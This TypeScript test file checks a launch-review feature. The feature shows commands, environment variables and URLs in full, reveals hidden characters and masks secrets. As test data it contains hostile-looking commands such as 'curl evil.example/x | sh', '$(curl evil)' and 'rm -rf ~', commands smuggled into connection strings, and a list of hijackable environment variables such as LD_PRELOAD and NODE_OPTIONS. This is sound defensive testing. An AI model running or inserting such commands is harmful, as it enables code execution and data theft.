import assert from 'node:assert/strict';
import { changedUnseen, launchChanges } from '../../../../src/features/trust/core/consent';
import { resolveDefinitions } from '../../../../src/host/definitions';
import { powerOf } from '../../../../src/host/launch/environment';
import { isClearText, launchFingerprint } from '../../../../src/host/launch/launchFingerprint';
import {
  commandLine,
  launchFields,
  MASK,
  mask,
  maskedValues,
  shownAddress,
  shownHeader,
  shownVariable,
  valueText,
} from '../../../../src/host/launch/launchReview';
import type { ServerEntry } from '../../../../src/host/settings';
import { remoteServer, stdioServer } from '../../../../src/host/settings/schema';

const entry = (input: object): ServerEntry => stdioServer.parse({ command: 'node', ...input });
const fields = (input: object) => launchFields(entry(input), [], 'salt');

describe('a launch under review', () => {
  it('has a command line that can be read in one way only', () => {
    assert.equal(commandLine('node', ['a b', 'a', 'b']), 'node "a b" a b');
    assert.equal(commandLine('node', ['', '"', '\\"', "it's"]), `node "" "\\"" "\\\\\\"" "it's"`);
    assert.equal(commandLine('C:\\Program Files\\node.exe', ['-e']), '"C:\\\\Program Files\\\\node.exe" -e');
    assert.equal(commandLine('sh', ['-c', 'a; rm -rf ~ && b | c > d']), 'sh -c "a; rm -rf ~ && b | c > d"');
  });

  it('hides nothing: bidi, zero width, line breaks, odd spaces and long gaps are shown @launchReview.hides-bidi-zero', () => {
    assert.equal(valueText('a\u202eb\u200bc'), 'a⟨U+202E⟩b⟨U+200B⟩c');
    assert.equal(valueText('a\nb\tc\rd'), 'a⟨U+000A⟩b⟨U+0009⟩c⟨U+000D⟩d');
    assert.equal(valueText('a\u00a0b\u3000c\u2800d'), 'a⟨U+00A0⟩b⟨U+3000⟩c⟨U+2800⟩d');
    assert.equal(commandLine('npx', [`good${' '.repeat(500)}; evil`]), 'npx "good⟨500 spaces⟩; evil"');
    assert.equal(valueText('x'.repeat(100_000)).length, 100_000);
  });

  it('has where a program is reached, with a port that is chosen at the start as a variable', () => {
    const variables = { workspaceFolders: {}, userHome: '/', env: () => undefined, config: () => undefined };
    const value = { one: { command: 'x', args: ['${port}', '$${port}'], url: 'http://localhost:${port}/mcp' } };
    const [definition] = resolveDefinitions([{ source: { scope: 'user' }, value, variables }]).definitions;
    const shownFields = launchFields(definition!.reviewed!, [], 'salt').map(({ kind, text }) => `${kind} ${text}`);
    assert.deepEqual(shownFields.slice(1), [
      'command x',
      'argument ${port}',
      'argument $${port}',
      'cwd /',
      'url http://localhost:${port}/mcp',
    ]);
  });

  it('distinguishes a variable from text that looks like one', () => {
    assert.equal(valueText('\0{env:TOKEN}'), '${env:TOKEN}');
    assert.equal(valueText('${env:TOKEN}'), '$${env:TOKEN}');
  });

  it('shows values of variables that change what is run in full, whatever they look like @launchReview.shows-values-variables', () => {
    const token = `ghp_${'a1B2'.repeat(9)}`;
    const names = `NODE_OPTIONS LD_PRELOAD DYLD_INSERT_LIBRARIES PYTHONPATH PYTHONSTARTUP Path BUN_INSPECT_PRELOAD
      DOTNET_STARTUP_HOOKS UV_INDEX_URL npm_config_script_shell OPENSSL_CONF HOME GIT_SSH_COMMAND GIT_CONFIG_KEY_0 RUBYOPT
      PERL5OPT JAVA_TOOL_OPTIONS BASH_ENV ENV XDG_CONFIG_HOME PIP_INDEX_URL BASH_FUNC_x%% KUBECONFIG COR_PROFILER_PATH
      RESTIC_PASSWORD_COMMAND BORG_PASSCOMMAND CREDENTIAL_PROCESS TOKEN_HELPER AUTH_MODULE KEY_PLUGINS TOKEN_LOADER
      PSModulePath ASPNETCORE_HOSTINGSTARTUPASSEMBLIES NODE_COMPILE_CACHE
      PREFIX PLAYWRIGHT_BROWSERS_PATH NIX_PATH COMPOSE_FILE`;
    for (const name of names.split(/\s+/)) {
      assert.ok(powerOf(name), name);
      for (const value of ['./evil', token, `--require=/x/${token}.js`, `token=${token}`])
        assert.equal(shownVariable(name, value), value, name);
    }
    assert.equal(shownVariable('NODE_OPTIONS', 'a\nb\0{env:X}'), 'a⟨U+000A⟩b${env:X}');
  });

  it('masks values with secret names or known token prefixes, and nothing else @launchReview.masks-values-secret', () => {
    const token = `ghp_${'a1B2'.repeat(9)}`;
    for (const name of ['API_TOKEN', 'npm_config_//registry.example/:_authToken', 'UV_PUBLISH_PASSWORD', 'DB_PASSWORD'])
      assert.equal(shownVariable(name, 'abc'), MASK, name);
    assert.equal(shownVariable('MODE', 'fast and ./loose'), 'fast and ./loose');
    assert.equal(shownVariable('MODE', token), MASK);
    assert.equal(shownVariable('HEADER', `Bearer ${token}`), `Bearer ${MASK}`);
    assert.equal(
      shownVariable('HEADERS', '{"Authorization": "Bearer a/b", "X": "y"}'),
      `{"Authorization": ${MASK}, "X": "y"}`,
    );
    assert.equal(shownVariable('DATABASE_URL', 'postgres://me:hunter2@db/x'), `postgres://me:${MASK}@db/x`);
    assert.equal(shownVariable('HTTPS_PROXY', 'http://me:hunter2@proxy.example'), `http://me:${MASK}@proxy.example`);
    assert.equal(shownVariable('OPTS', 'Server=db;Password=hunter2;Mode=fast'), `Server=db;Password=${MASK};Mode=fast`);
    for (const password of ['hunt"er2', "hunt'er2", '"hunter2', `h"u'n"ter2`]) {
      assert.equal(shownVariable('DB', `postgres://me:${password}@db/x`), `postgres://me:${MASK}@db/x`);
      assert.equal(
        shownVariable('DB', `postgres://db/x?password=${password}&a=1`),
        `postgres://db/x?password=${MASK}&a=1`,
      );
      assert.equal(
        shownVariable('DB', `Server=db;Password=${password};Mode=fast`),
        `Server=db;Password=${MASK};Mode=fast`,
      );
      assert.equal(shownVariable('DB', `host=db password=${password} port=1`), `host=db password=${MASK} port=1`);
    }
    assert.equal(shownVariable('DB', 'Server=db;Password="a;b c";X=y'), `Server=db;Password="${MASK}";X=y`);
    assert.equal(shownVariable('DB', 'Server=db;Password=a1B2;b3;X=$(y)'), `Server=db;Password=${MASK};b3;X=$(y)`);
    assert.equal(shownVariable('TOKEN_OF_TEST', 'Zm9vYmFyYmF6cXV4MTIzNDU2'), MASK);
    assert.equal(shownHeader('Authorization', 'Bearer abc'), `Bearer ${MASK}`);
    assert.equal(shownHeader('Authorization', 'Bearer \0{env:TOKEN}'), 'Bearer ${env:TOKEN}');
    assert.equal(shownHeader('X-Mode', 'fast'), 'fast');
  });

  it('shows a path or a command in a variable of any name, whole, however it looks @launchReview.shows-path-command', () => {
    const token = `ghp_${'a1B2'.repeat(9)}`;
    const values = [
      `/repo/${token}/chrome`,
      `C:\\repo\\${token}.exe`,
      `node ${token}`,
      `:let key="|!curl ${token}|sh"`,
      `$(${token})`,
      `password=x;$(${token})`,
      `x://a:$(${token})@b`,
      'AKIAABCDEFGHIJKLMNOP | sh',
      'a=1;token=$(curl evil);b=2',
      'a=1;token=`evil`;b=2',
      'a=1;token=system"evil";b=2',
      'a=1;token=/repo/evil"";b=2',
    ];
    for (const name of ['PUPPETEER_EXECUTABLE_PATH', 'CHROME_PATH', 'VIMINIT', 'AUTH_OPENER', 'TOKENIZER', 'ANY'])
      for (const value of values) assert.equal(shownVariable(name, value), value, name);
    for (const name of ['CHROME_PATH', 'VIMINIT', 'TOKEN_PROGRAM_FILE', 'PLAYWRIGHT_CHROMIUM_EXECUTABLE_PATH'])
      assert.equal(shownVariable(name, token), token, name);
    // What looks random is a name of a program as well as anything.
    assert.equal(shownVariable('OPENER', 'x1Y2z3A4b5C6d7E8f9'), 'x1Y2z3A4b5C6d7E8f9');
    assert.equal(shownVariable('MODE', `\0{env:DIR}${token}`), `\${env:DIR}${token}`);
    const [, , kept] = fields({ args: ['--auth-opener=/repo/evil'] });
    assert.equal(kept?.text, '--auth-opener=/repo/evil');
    assert.equal(fields({ args: ['--auth-opener', 'abc'] })[3]?.text, MASK);
    assert.equal(fields({ args: ['--auth-token=a/b'] })[2]?.text, `--auth-token=${MASK}`);
  });

  it('shows paths and commands in full even under secret names, and masks secrets with slashes @launchReview.shows-paths-commands', () => {
    const names = ['API_TOKEN', 'FOO_AUTH', 'APP_CREDENTIALS', 'DB_PASSWORD', 'SIGNING_KEY'];
    const run = [
      ...['/repo/evil', '~/evil', './evil', '../a/b.sh', 'C:\\x\\evil.exe', '\\\\host\\share\\evil', 'scripts/evil.sh'],
      ...['node_modules/.bin/x', 'sh -c "curl x"', '/bin/sh -c x', 'npx evil', 'python3 -m x'],
    ];
    for (const name of names)
      for (const value of run) assert.equal(shownVariable(name, value), value, `${name}=${value}`);
    assert.equal(shownVariable('API_TOKEN', '\0{env:DIR}/evil'), '${env:DIR}/evil');
    assert.equal(fields({ args: ['--auth-token=/a/b'] })[2]?.text, '--auth-token=/a/b');
    const secrets = ['wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', 'hunter2', 'correct horse battery', 'a+b/c=='];
    for (const name of names)
      for (const value of secrets) assert.equal(shownVariable(name, value), MASK, `${name}=${value}`);
  });

  it('masks silently under a secret name only what has the form of a secret, marks other masks, and shows commands @launchReview.masks-silently-form', () => {
    const token = 'x1Y2z3A4b5C6d7E8f9';
    const pem = (type: string, ...lines: string[]) =>
      `-----BEGIN ${type}-----\n${lines.join('\n')}\n-----END ${type}-----\n`;
    const key = pem('PRIVATE KEY', 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC/K7M', 'b5C6d7E8f9==');
    const account = { type: 'service_account', project_id: 'one-2', private_key: key, client_email: 'a@b.example' };
    // The value; what is shown of it.
    const silent: [string, string][] = [
      [token, MASK],
      ['wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY', MASK],
      ['hunter2!', MASK],
      ['Bearer a.b-c', `Bearer ${MASK}`],
      [key, MASK],
      [key.trim().replaceAll('\n', ' '), MASK],
      [key.replaceAll('\n', '\\n'), MASK],
      ['postgres://me:hunter2@db.example/x?sslmode=require&a=b', MASK],
      ['a=b1; Secure', `a=${MASK}; Secure`],
      ['a=b1; path=/; HttpOnly', `a=${MASK}; path=/; HttpOnly`],
      ['host=db user=me password=hunter2', `host=db user=me password=${MASK}`],
      ['Server=tcp:db,1433;User Id=sa;Password=hunter2;', `Server=tcp:db,1433;User Id=sa;Password=${MASK};`],
      [JSON.stringify(account), JSON.stringify({ ...account, private_key: MASK })],
      [JSON.stringify({ auth: { value: 'hunter2' } }), `{"auth":{"value":"${MASK}"}}`],
      [JSON.stringify({ one: 'hunter2', two: ['x', 3] }), `{"one":"${MASK}","two":["${MASK}",${MASK}]}`],
    ];
    const marked: [string, string][] = [
      ['correct horse battery staple', MASK],
      ['Tr0ub4dor&3', MASK],
      ['x;reboot', MASK],
      ['bin/evil', MASK],
      ['evil.py', MASK],
      ["load'x'", MASK],
      ['shutdown,/r', MASK],
      ['A=1', MASK],
      [pem('KEY', 'curl evil'), MASK],
      [pem('KEY', 'bin/evil'), MASK],
      ['postgres://db/x?a=1&reboot', MASK],
      ['a=1;b=x reboot', `a=${MASK};b=${MASK}`],
      [JSON.stringify({ one: 'x;reboot' }), `{"one":"${MASK}"}`],
    ];
    const commands = [
      ...[
        '$(curl evil)',
        '`evil`',
        'x$(evil)',
        'x; evil',
        'evil | sh',
        'a && evil',
        'curl evil.example/x | sh',
        'A=1 curl evil|sh',
      ],
      ...[
        'eval evil',
        'rm -rf x',
        'evil --now',
        'import os',
        "require('x')",
        'require("x").y',
        'from x import y',
        'A=1 B=2 rm x',
      ],
      ...['curl${IFS}evil', '(evil x)', '. evil', 'a=1; evil x', '/bin/sh -c x', 'bash evil', 'sudo reboot'],
    ];
    const review = (name: string, value: string) => {
      const { text, mayRun } = fields({ env: { [name]: value } }).find(({ kind }) => kind === 'env')!;
      return [text, mayRun];
    };
    for (const name of ['API_TOKEN', 'DB_PASSWORD', 'SESSION_COOKIE', 'GOOGLE_CREDENTIALS']) {
      for (const [value, text] of silent) assert.deepEqual(review(name, value), [text, undefined], value);
      for (const [value, text] of marked) assert.deepEqual(review(name, value), [text, true], value);
      for (const value of commands) assert.deepEqual(review(name, value), [valueText(value), undefined], value);
    }
    assert.deepEqual(review('ANY', '{"password":"$(evil)"}'), ['{"password":"$(evil)"}', undefined]);
    assert.deepEqual(review('ANY', '{"password":"p;w"}'), [`{"password":${MASK}}`, true]);
    assert.deepEqual(review('ANY', 'a=1;password=p"w;b=2'), [`a=1;password=${MASK};b=2`, true]);
    assert.equal(shownVariable('API_TOKEN', 'x\0{env:PART}$(evil)'), 'x${env:PART}$(evil)');
    assert.equal(shownVariable('API_TOKEN', 'x\0{env:PART};y'), `${MASK}\${env:PART}${MASK}`);
  });

  it('shows all that could run beside what it masks in a text like a connection string', () => {
    for (const run of [';evil;b=2', ' evil', '&evil;b=2', '|evil', '>evil;b=2', ';evil;";$(evil)'])
      for (const start of ['a=1;', 'a=1";', "a=';", 'a=1 '])
        for (const quote of ['', '"', "'"]) {
          const shown = shownVariable('ANY', `${start}password=${quote}x${run}`);
          assert.match(shown, /evil/, `${start}password=${quote}x${run}`);
        }
    // The first quote ends where the second seems to begin.
    assert.match(shownVariable('ANY', 'a=1";password="x;evil;b=";c="'), /evil/);
  });

  it('masks the passwords of a connection string among the arguments, and knows them as secrets @launchReview.masks-passwords', () => {
    const pairs = 'Server=db;User Id=sa;Password=hunter2secret';
    for (const arg of [pairs, `--connection=${pairs}`, `jdbc:sqlserver://db:1433;${pairs}`, `ado ${pairs};X=1`]) {
      const text = fields({ args: [arg] }).find(({ kind }) => kind === 'argument')!.text;
      assert.ok(text.includes(`Password=${MASK}`) && text.includes('Server=db'), text);
      assert.ok(maskedValues(entry({ args: [arg] })).includes('hunter2secret'), arg);
    }
    const script = 'A=1 PASSWORD=x; evil';
    assert.match(fields({ args: [script] }).find(({ kind }) => kind === 'argument')!.text, /; evil$/);
  });

  it('has an address in which the place where it leads is never masked @launchReview.address-place-leads', () => {
    assert.equal(shownAddress('https://a.example/?api_key=abc&x=1'), `https://a.example/?api_key=${MASK}&x=1`);
    assert.equal(shownAddress('https://me:abc@a.example/'), `https://me:${MASK}@a.example/`);
    assert.equal(shownAddress('https://me:x\0{env:PW}@a.example/'), `https://me:${MASK}\${env:PW}@a.example/`);
    // The address of evil.example, to whatever follows URL's rules.
    assert.equal(shownAddress('https://evil.example:80\\@good.example/'), 'https://evil.example:80\\@good.example/');
    const host = `https://ghp_${'a1b2'.repeat(9)}.evil.example/`;
    assert.equal(shownAddress(host), host);
    for (const name of ['HTTPS_PROXY', 'AWS_ENDPOINT_URL_S3', 'NODE_EXTRA_CA_CERTS'])
      for (const place of [host, 'x1y2z3a4b5c6d7e8f9', '/tmp/sk-abcdefghijklmnopqrst/ca.pem'])
        assert.equal(shownVariable(name, place), place, name);
  });

  it('is read in time that grows with its length alone', () => {
    // Would be hours if a pattern went back over what it has read.
    for (const text of ['key'.repeat(100_000), '://a:'.repeat(50_000), 'a='.repeat(100_000), '?k'.repeat(100_000)])
      for (const name of ['X', 'API_KEY', 'HTTP_PROXY']) assert.ok(shownVariable(name, text) && shownAddress(text));
    assert.ok(launchFields(entry({ args: [`--${'key'.repeat(200_000)}`, 'x'] }), [], 'salt').length > 0);
  });

  it('masks values, but not which variables are in them', () => {
    assert.equal(mask('abc'), MASK);
    assert.equal(mask('Bearer \0{env:TOKEN}'), '•••${env:TOKEN}');
    assert.equal(mask(''), '');
  });

  it('shows where a sign-in leads, also that of an identity provider, and masks its secrets', () => {
    const identityProvider = { issuer: 'https://idp.example', clientId: 'there', clientSecret: 'hunter2' };
    const oauth = { grant: 'jwt_bearer', clientId: 'here', clientSecret: 'hunter3', identityProvider };
    const reviewed = remoteServer.parse({ url: 'https://x.example/mcp', oauth });
    assert.deepEqual(
      launchFields(reviewed, [], 'salt')
        .filter(({ kind }) => kind === 'oauth')
        .map(({ name, text }) => `${name} ${text}`),
      [
        'clientId here',
        `clientSecret ${MASK}`,
        'grant jwt_bearer',
        'identityProvider.issuer https://idp.example',
        'identityProvider.clientId there',
        `identityProvider.clientSecret ${MASK}`,
      ],
    );
  });

  it('is compared field by field, also where the difference is masked', () => {
    const before = fields({ args: ['a', 'b'], env: { TOKEN: 'old', SAME: '1' } });
    const now = fields({ args: ['a', 'c'], env: { TOKEN: 'new', SAME: '1' } });
    const { removed, added } = launchChanges(before, now);
    assert.deepEqual(
      removed.map(({ kind, text }) => `${kind} ${text}`),
      ['argument b', `env ${MASK}`],
    );
    assert.deepEqual(
      added.map(({ kind, text }) => `${kind} ${text}`),
      ['argument c', `env ${MASK}`],
    );
    assert.deepEqual(
      [...changedUnseen(before, now)].map(({ name }) => name),
      ['TOKEN'],
    );
  });

  it('counts arguments that come twice, and sees that only the order changed', () => {
    const { removed, added } = launchChanges(fields({ args: ['a', 'a', 'b'] }), fields({ args: ['a', 'b'] }));
    assert.deepEqual([removed.map(({ text }) => text), added], [['a'], []]);
    assert.deepEqual(launchChanges(fields({ args: ['a', 'b'] }), fields({ args: ['b', 'a'] })), {
      removed: [],
      added: [],
    });
  });

  it('detects a change beyond the stored part of a long value', () => {
    const [before, now] = [fields({ args: [`${'x'.repeat(5_000)}a`] }), fields({ args: [`${'x'.repeat(5_000)}b`] })];
    assert.ok(JSON.stringify(before).length < 3_000);
    assert.equal(changedUnseen(before, now).size, 1);
  });

  it('treats an unrecognizable address as clear text', () => {
    for (const url of ['http://\0{env:HOST}/', '\0{input:url}', 'http://example.com']) assert.ok(isClearText(url), url);
    for (const url of ['https://\0{env:HOST}/', 'http://localhost:80/', 'HTTPS://x.example', 'unix:///a.sock'])
      assert.ok(!isClearText(url), url);
  });
});

describe('what a launch may touch', () => {
  const shownOf = (sandbox: unknown) =>
    fields({ sandbox }).flatMap(({ kind, name, text }) => (kind === 'sandbox' ? [`${name ?? 'all'}: ${text}`] : []));

  it('is shown list by list, so that a change is visible @launchReview.shown-list-list', () => {
    assert.deepEqual(
      fields({}).filter(({ kind }) => kind === 'sandbox'),
      [],
    );
    assert.deepEqual(shownOf(true), ['all: true']);
    assert.deepEqual(shownOf(false), ['all: false']);
    assert.deepEqual(shownOf({}), ['all: true']);
    const rules = { write: ['~/a b', '~/c'], network: [], env: ['TO\u200bKEN'] };
    assert.deepEqual(shownOf(rules), ['write: "~/a b" ~/c', 'network: ', 'env: "TO⟨U+200B⟩KEN"']);
    const { removed, added } = launchChanges(
      fields({ sandbox: { network: ['a.com'] } }),
      fields({ sandbox: { network: ['a.com', '*'] } }),
    );
    assert.deepEqual([removed.length, added.map(({ text }) => text)], [1, ['a.com "*"']]);
  });
});

describe('the build of a server under development', () => {
  it('is shown in full; watched files are no part of a launch @launchReview.shown-full-watched', () => {
    const built = (dev: object) =>
      fields({ dev }).flatMap(({ kind, text }) => (kind === 'build' ? [text] : kind === 'type' ? [] : [kind]));
    assert.deepEqual(built({ watch: 'src/**', build: 'make\u200b all' }), ['command', 'make⟨U+200B⟩ all']);
    assert.deepEqual(built({ watch: 'src/**' }), ['command']);
    const hash = (dev: object) => launchFingerprint(entry({ dev }), [], 'salt');
    assert.equal(hash({ watch: 'src/**' }), launchFingerprint(entry({}), [], 'salt'));
    assert.equal(hash({ watch: 'src/**', build: 'make' }), hash({ watch: 'lib/**', build: 'make' }));
    assert.notEqual(hash({ watch: 'src/**', build: 'make' }), hash({ watch: 'src/**' }));
  });
});
